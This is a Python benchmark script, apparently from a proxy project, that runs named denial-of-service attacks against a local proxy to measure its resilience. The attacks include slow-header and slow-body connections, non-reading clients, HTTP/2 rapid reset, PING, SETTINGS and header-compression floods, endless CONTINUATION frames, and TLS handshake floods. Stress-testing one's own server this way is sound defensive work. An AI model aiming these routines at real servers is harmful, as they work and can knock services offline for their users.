"""What hostile clients do, for bench/hoards and bench/attacks. Each attack is a function of a port for HTTP/1.1, one for TLS with
HTTP/2, and the time at which it is over.

usage: bench/attackers.py ATTACK PLAIN TLS SECONDS
"""

import contextlib
import os
import random
import resource
import socket
import ssl
import struct
import sys
import time

HOST = "bench.example.com"
SMALL = 200
STREAMS = 128
MOST = 2**31 - 1
MIB = 1 << 20


# Connections that are kept, and what each has said before.


def silent(plain, _tls):
    return socket.create_connection(("127.0.0.1", plain))


def idle(plain, tls):
    connection = silent(plain, tls)
    connection.sendall(request("/small"))
    answer = b""
    while not answer.endswith(b"x" * SMALL):
        answer += connection.recv(4096)
    return connection


def half(plain, tls):
    connection = silent(plain, tls)
    connection.sendall(request("/small")[:-4])
    return connection


def large_half(plain, tls):
    connection = silent(plain, tls)
    connection.sendall(request("/small")[:-2] + b"".join(b"X-%d: %s\r\n" % (number, b"x" * 1_000) for number in range(200)))
    return connection


def half_body(plain, tls):
    connection = silent(plain, tls)
    connection.sendall(request("/small", "POST", b"Content-Length: 1000000\r\n") + b"x" * 1_000)
    return connection


def reader(plain, _tls):
    connection = narrow(plain)
    connection.sendall(request("/huge"))
    connection.recv(1)
    return connection


def streams(_plain, tls):
    """Grants all the room that HTTP/2 can say, and reads nothing."""
    connection = http2(tls, narrow(tls), window=MOST)
    connection.sendall(frame(8, 0, 0, struct.pack(">I", MOST - 65_535)) +
                       b"".join(frame(1, 5, 2 * number + 1, head("/huge")) for number in range(STREAMS)))
    return connection


def part_of_a_head(_plain, tls):
    connection = http2(tls)
    connection.sendall(frame(1, 1, 1, head("/small")))
    return connection


def keeping(count, connect, each=None):
    """Keeps so many connections, and once all are there, does something with each ten times a second."""

    def attack(plain, tls, until):
        kept = []
        while time.monotonic() < until:
            # One that the proxy turns away is tried again.
            with contextlib.suppress(OSError):
                if len(kept) < count:
                    kept.append(connect(plain, tls))
                    continue
            for connection in kept if each else ():
                with contextlib.suppress(OSError):
                    each(connection)
            time.sleep(0.1)
        return kept

    return attack


def sending(piece):
    return lambda connection: connection.sendall(piece)


# As fast as it goes.


def again_and_again(connect, pieces, port_of=0):
    """Sends pieces, reading what comes, until the connection ends; then anew."""

    def attack(plain, tls, until):
        while time.monotonic() < until:
            with contextlib.suppress(OSError), connect(plain, tls) as connection:
                connection.settimeout(0.0005)
                for piece in pieces():
                    if time.monotonic() >= until:
                        return
                    send(connection, piece, until)

    return attack


def send(connection, data, until):
    """Sends, and drops whatever is answered meanwhile."""
    data = memoryview(data)
    while data and time.monotonic() < until:
        try:
            data = data[connection.send(data):]
        except (TimeoutError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        with contextlib.suppress(TimeoutError, ssl.SSLWantReadError):
            if not connection.recv(1 << 16):
                raise ConnectionError


def endless(piece):
    def pieces():
        while True:
            yield piece

    return pieces


def requests_given_up():
    stream = 1
    while stream < MOST:
        yield b"".join(frame(1, 5, stream + 2 * each, head("/large")) + frame(3, 0, stream + 2 * each, struct.pack(">I", 8))
                       for each in range(100))
        stream += 200


def requests_given_up_behind_pings():
    stream = 1
    while stream < MOST:
        yield frame(1, 5, stream, head("/large")) + frame(6, 0, 0, bytes(8)) + frame(3, 0, stream, struct.pack(">I", 8))
        stream += 2


def fields_from_the_table():
    """Four thousand references to one field of 4,000 bytes, in each head (RFC 7541)."""
    stream = 1
    field = b"\x40" + text(b"x") + text(b"y" * 3_900)
    while stream < MOST:
        yield frame(1, 1, stream, head("/small") + field + b"\xbe" * 4_000) + frame(9, 4, stream, b"\xbe" * 4_000)
        stream += 2


def head_without_an_end():
    yield frame(1, 1, 1, head("/small"))
    while True:
        yield frame(9, 0, 1, literal("x", "y" * 200) * 50)


def request_heads():
    while True:
        yield request("/small", lines=b"".join(b"X-%d: %s\r\n" % (number, b"x" * 900) for number in range(900)))


def small_chunks():
    yield request("/small", "POST", b"Transfer-Encoding: chunked\r\n")
    while True:
        yield b"1;extension=x\r\na\r\n" * 1_000


def junk():
    while True:
        yield random.randbytes(2_000)


def churn(plain, _tls, until):
    while time.monotonic() < until:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", plain)) as connection:
            connection.sendall(request("/small"))


def hellos(_plain, tls, until):
    """The beginning of a handshake, again and again."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl._create_unverified_context()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing, server_hostname=HOST).do_handshake()
    hello = outgoing.read()
    while time.monotonic() < until:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", tls)) as connection:
            connection.sendall(hello)
            connection.recv(100)


def hinted(plain, _tls, until):
    """Asks for what never gets beyond informational responses."""
    kept = []
    while time.monotonic() < until:
        with contextlib.suppress(OSError):
            if len(kept) < 4:
                connection = silent(plain, None)
                connection.sendall(b"GET /tunnel HTTP/1.1\r\nHost: hints.example.com\r\n\r\n")
                kept.append(connection)
            connection = kept.pop(0)
            connection.settimeout(0.01)
            with contextlib.suppress(TimeoutError):
                if not connection.recv(1 << 20):
                    continue
            kept.append(connection)


def in_circles(plain, _tls, until):
    """Asks for a host whose backend is the proxy."""
    while time.monotonic() < until:
        with contextlib.suppress(OSError), silent(plain, None) as connection:
            connection.sendall(b"GET / HTTP/1.1\r\nHost: circle.example.com\r\nConnection: close\r\n\r\n")
            while connection.recv(4096):
                pass


# What is said.


def http2(tls, connection=None, window=65_535):
    context = ssl._create_unverified_context()
    context.set_alpn_protocols(["h2"])
    connection = context.wrap_socket(connection or socket.create_connection(("127.0.0.1", tls)), server_hostname=HOST)
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, struct.pack(">HI", 4, window)))
    return connection


def narrow(port):
    connection = socket.socket()
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
    connection.connect(("127.0.0.1", port))
    return connection


def request(path, method="GET", lines=b""):
    return f"{method} {path} HTTP/1.1\r\nHost: {HOST}\r\n".encode() + lines + b"\r\n"


def head(path):
    return b"".join(literal(name, value) for name, value in
                    [(":method", "GET"), (":scheme", "https"), (":path", path), (":authority", HOST)])


def frame(kind, flags, stream, content):
    return struct.pack(">I", len(content))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + content


def literal(name, value):
    """A header field as it is, without an index (RFC 7541 section 6.2.2)."""
    return b"\0" + text(name.encode()) + text(value.encode())


def text(text):
    """Its length as a number with a prefix of seven bits (RFC 7541 section 5.1), and itself."""
    if len(text) < 127:
        return bytes([len(text)]) + text
    rest, length = len(text) - 127, b"\x7f"
    while rest >= 128:
        length += bytes([rest % 128 + 128])
        rest //= 128
    return length + bytes([rest]) + text


def on_http2(pieces):
    return again_and_again(lambda _plain, tls: http2(tls), pieces)


def on_http1(pieces):
    return again_and_again(silent, pieces)


ATTACKS = {
    "4,000 that connect and say nothing": keeping(4_000, silent),
    "4,000 that have asked once": keeping(4_000, idle),
    "4,000 halves of a head": keeping(4_000, half),
    "500 halves of a head of 200 KB": keeping(500, large_half),
    "500 heads, a line each 0.1 s": keeping(500, half, sending(b"X-A: b\r\n")),
    "500 bodies, a byte each 0.1 s": keeping(500, half_body, sending(b"x")),
    "300 that ask for 1 GB and do not read": keeping(300, reader),
    "300 that read 100 bytes of it each 0.1 s": keeping(300, reader, lambda connection: connection.recv(100)),
    f"10 over HTTP/2 with {STREAMS} streams that take nothing": keeping(10, streams),
    "1,000 over HTTP/2 with a part of a head": keeping(1_000, part_of_a_head),
    "HTTP/2: requests that are given up": on_http2(requests_given_up),
    "HTTP/2: the same, a PING between": on_http2(requests_given_up_behind_pings),
    "HTTP/2: PINGs": on_http2(endless(frame(6, 0, 0, bytes(8)) * 1_000)),
    "HTTP/2: settings": on_http2(endless(frame(4, 0, 0, b"") * 1_000)),
    "HTTP/2: a head without an end": on_http2(head_without_an_end),
    "HTTP/2: fields from the table": on_http2(fields_from_the_table),
    "heads of 900 lines of 900 bytes": on_http1(request_heads),
    "chunks of one byte": on_http1(small_chunks),
    "requests, of which no answer is read": on_http1(endless(request("/large") * 100)),
    "junk": on_http1(junk),
    "connections that are closed at once": churn,
    "halves of a handshake": hellos,
    "a backend that says 103 for ever": hinted,
    "a route that leads back": in_circles,
}


def main():
    name, plain, tls, seconds = sys.argv[1:]
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    # What is measured is the proxy, not who gets the cores.
    os.nice(10)
    ATTACKS[name](int(plain), int(tls), time.monotonic() + float(seconds))


if __name__ == "__main__":
    main()
